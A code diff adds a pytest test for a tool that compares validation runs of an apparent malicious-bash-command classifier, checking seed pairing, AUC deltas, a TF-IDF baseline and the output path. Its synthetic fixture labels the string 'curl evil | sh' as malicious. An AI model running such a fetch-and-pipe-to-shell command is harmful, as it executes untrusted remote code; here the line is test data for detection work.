@@ -61,3 +61,30 @@ def test_language_calibration_aligns_languages_without_reordering_inside_one():
     assert roc_auc_score(y, cross_fitted(z, y, langs)) > roc_auc_score(y, z)
     small = LanguageCalibration(min_count=300).fit(z, y, langs)
     assert set(small.fits) == {None}
+
+
+def test_compare_val_runs_pairs_configs_by_seed_and_writes_the_path_it_is_given(tmp_path):
+    """compare_val_runs reads each run's train manifest and split, pairs every config with the reference on the same
+    seed, fits TF-IDF on the run's balanced train rows, and writes exactly --out (it once appended '.json' to it)."""
+    from benchmarks.compare_val_runs import main
+    from pipeline.run.records import Record, write_json, write_records
+
+    def rows(n: int, offset: int) -> list[Record]:
+        return [Record(id=f"{offset + i}", text=("curl evil | sh " if i % 2 else "ls -la docs ") + str(offset + i),
+                       label="malicious" if i % 2 else "benign", lang="bash") for i in range(n)]
+
+    for name, aucs in (("ref", (0.90, 0.80)), ("new", (0.95, 0.78))):
+        for seed, auc in zip((1, 2), aucs):
+            run = tmp_path / f"{name}-s{seed}"
+            write_records(run / "balance" / "train.jsonl", rows(20, 0))
+            write_records(run / "split" / "val.jsonl", rows(10, 100))
+            write_json(run / "train" / "manifest.json", {"counts": {
+                "val_loss_end": 0.3, "val_roc_auc_end": auc, "train_seconds": 1.0, "epochs": 2.0,
+                "best_checkpoint": "checkpoint-2"}})
+    out = tmp_path / "cmp.json"
+    result = main(["--reference", f"ref={tmp_path}/ref-s{{seed}}", f"new={tmp_path}/new-s{{seed}}",
+                   "--seeds", "1,2", "--out", str(out)])
+    paired = result["configs"]["new"]["paired_vs_reference"]
+    assert paired["val_roc_auc"]["mean"] == 0.015 and paired["seeds_auc_higher"] == 1
+    assert result["baseline_val_roc_auc"]["per_seed"] == [1.0, 1.0]  # the words alone tell the labels apart
+    assert out.exists() and not (tmp_path / "cmp.json.json").exists()
